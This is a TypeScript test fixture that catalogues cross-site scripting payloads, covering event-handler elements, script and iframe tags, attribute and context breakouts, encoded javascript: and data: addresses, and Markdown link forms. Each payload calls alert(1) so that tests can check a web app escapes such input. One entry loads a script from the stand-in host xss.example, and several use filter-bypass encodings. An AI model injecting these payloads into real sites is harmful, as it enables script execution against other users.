/**
 * Texts that would run a script if a page took them for HTML, for an address or for a style: in
 * names, messages, titles, file names, mail. Each calls `alert`, so that a test sees a dialog, an
 * error, or a refusal of the content policy.
 */

const RUN = 'alert(1)';

/** Elements with a handler that runs without a click, or with one. */
const HANDLERS = [
  ['img src=x', 'onerror'],
  ['img src=x:x', 'onerror'],
  ['image src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['video autoplay', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['audio autoplay src=x', 'onloadstart'],
  ['video><source src=x', 'onerror'],
  ['picture><img src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/', 'onload'],
  ['svg><g', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['svg><animateTransform attributeName=x dur=1s', 'onend'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=x autofocus tabindex=0', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['div popover id=p', 'onbeforetoggle'],
  ['dialog open', 'onclose'],
  ['marquee', 'onstart'],
  ['marquee loop=1', 'onfinish'],
  ['div style=animation:x', 'onanimationstart'],
  ['div style=transition:1s', 'ontransitionend'],
  ['form', 'onsubmit'],
  ['input type=image src=x', 'onerror'],
  ['keygen autofocus', 'onfocus'],
  ['meter', 'onmouseover'],
  ['p', 'onclick'],
  ['p', 'onpointerenter'],
  ['p', 'onmouseenter'],
  ['p', 'oncopy'],
  ['p', 'oncontentvisibilityautostatechange'],
  ['math><mtext><img src=x', 'onerror'],
  ['noscript><img src=x', 'onerror'],
  ['template><img src=x', 'onerror'],
  ['table background=x', 'onload'],
] as const;

/** Whole elements. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//xss.example/x.js></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input type=submit formaction="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(#x)">${RUN}</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href=# onclick=${RUN}>x</a>`,
  `<area href="javascript:${RUN}" shape=default>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<xml id=x><x><![CDATA[<img src=x onerror=${RUN}>]]></x></xml>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
] as const;

/** What would end an attribute, an element or a script that it stands in. */
const BREAKS = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  `" style="animation:x" onanimationstart="${RUN}`,
  `x" onerror=${RUN} src="x`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `\u2028${RUN}//`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u202e<img src=x onerror=${RUN}>`,
] as const;

/** Addresses that a link must not have. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  `jaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#x6a;avascript:${RUN}`,
  `java%0ascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg/onload=${RUN}>`,
  `blob:${RUN}`,
  `filesystem:${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
] as const;

/** The ways in which Markdown makes a link of an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x]`,
];

/** Every vector, each another one. */
export const XSS_VECTORS: readonly string[] = [
  ...HANDLERS.map(([element, handler]) => `<${element} ${handler}=${RUN}>`),
  ...ELEMENTS,
  ...BREAKS,
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  `\`\`\`html"><img src=x onerror=${RUN}>\n</code><script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
];

/** Those that fit a name on one line, such as of a person, a title or a file. */
export const XSS_NAMES: readonly string[] = XSS_VECTORS.filter(
  (vector) => vector.length <= 120 && !/\p{Cc}|[\u2028\u2029]/u.test(vector),
);

/**
 * One text of each kind, for the views that show texts as the page of all of them does: each view
 * has text nodes alone, as test/architecture.test.ts demands.
 */
export const XSS_KINDS: readonly string[] = [
  `"><img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];
